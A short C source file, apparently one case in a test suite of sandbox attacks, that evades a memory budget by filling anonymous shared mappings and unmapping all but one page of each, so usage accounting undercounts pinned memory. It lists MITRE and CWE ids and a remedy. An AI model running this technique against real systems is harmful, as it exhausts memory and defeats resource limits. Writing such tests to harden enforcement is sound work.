// SPDX-License-Identifier: MIT
/*
 * Goal:  more memory than the budget.
 * Means: the pages of a shared mapping are a nameless file's, and that keeps all of them as long as one
 *        page of it is mapped. So each piece is filled, and then unmapped but for its first page: who
 *        adds up what is mapped, or what is resident, finds a page of each.
 */
#include "attacks/attack.h"

#include <string.h>
#include <sys/mman.h>

#define BYTES (384UL << 20)
#define PIECE (16UL << 20)
#define PAGE  4096UL

static enum claim run(const struct brief *b)
{
	attempting(b);
	for (size_t done = 0; done < BYTES; done += PIECE) {
		char *at = mmap(NULL, PIECE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);

		if (at == MAP_FAILED)
			return denied("mmap");
		memset(at, 'x', PIECE);
		if (munmap(at + PAGE, PIECE - PAGE) < 0)
			return denied("munmap");
	}
	return hold();
}

const struct attack attack = {
	.effect = "more memory than the budget",
	.means = "shared mappings, unmapped but for a page: the nameless file keeps all its pages",
	.oracle = "usage:memory",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "count a shared mapping in its first size until the last page of it is gone; a memory cgroup",
	.refs = (const char *const[]){ "munmap(2)", "mmap(2): MAP_SHARED", NULL },
	.run = run,
};
